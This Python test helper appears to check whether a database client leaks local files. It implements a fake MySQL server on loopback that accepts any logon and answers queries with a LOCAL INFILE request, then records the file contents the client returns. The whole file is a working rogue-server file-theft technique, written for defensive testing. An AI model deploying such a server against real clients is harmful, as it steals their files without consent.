# SPDX-License-Identifier: GPL-3.0-or-later
"""A server on loopback that means no good: it asks its client for a file."""

import socket
import struct
import threading


class Listener:
    """Takes connections, each in a thread of its own, until it is closed."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.held = []
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection = self.socket.accept()[0]
            except OSError:
                return
            self.held.append(connection)
            threading.Thread(target=self.guarded, args=(connection,), daemon=True).start()

    def guarded(self, connection):
        try:
            self.serve(connection)
        except OSError:
            pass

    def close(self):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        for connection in self.held:
            connection.close()


class FileThief(Listener):
    """Speaks MySQL as far as the logon, which it grants to all, and answers statements by asking for a file.

    `polite`: settings are accepted first, so that only the report's own query is answered so. What comes back is in
    `stolen`, the statements are in `statements`.
    """

    def __init__(self, file, polite):
        self.file, self.polite = file, polite
        self.stolen, self.statements = [], []
        super().__init__()

    @staticmethod
    def receive(connection):
        def exactly(count):
            data = b""
            while len(data) < count:
                more = connection.recv(count - len(data))
                if not more:
                    raise OSError("closed")
                data += more
            return data
        head = exactly(4)
        return exactly(int.from_bytes(head[:3], "little")), head[3]

    @staticmethod
    def send(connection, number, body):
        connection.sendall(len(body).to_bytes(3, "little") + bytes([number & 0xFF]) + body)

    OK = b"\0\0\0\2\0\0\0"

    def serve(self, connection):
        # Protocol 4.1, native password, local files.
        flags = 0x000FA2FF & ~0x800
        self.send(connection, 0, b"\x0a5.7.30\0" + struct.pack("<I", 1) + b"abcdefgh\0" +
                  struct.pack("<HBHHB", flags & 0xFFFF, 45, 2, flags >> 16, 21) + b"\0" * 10 +
                  b"ijklmnopqrst\0mysql_native_password\0")
        number = self.receive(connection)[1]
        self.send(connection, number + 1, self.OK)
        while True:
            command, number = self.receive(connection)
            if command[:1] == b"\1":
                return
            if command[:1] == b"\x16":  # only whole statements, no prepared ones
                self.send(connection, number + 1, b"\xff\x13\x05#HY000not here")
                continue
            if command[:1] != b"\3":
                self.send(connection, number + 1, self.OK)
                continue
            statement = command[1:]
            self.statements.append(statement)
            if self.polite and statement[:3].upper() == b"SET":
                self.send(connection, number + 1, self.OK)
                continue
            self.send(connection, number + 1, b"\xfb" + str(self.file).encode())
            while True:
                piece, number = self.receive(connection)
                if not piece:
                    break
                self.stolen.append(piece)
            self.send(connection, number + 1, self.OK)
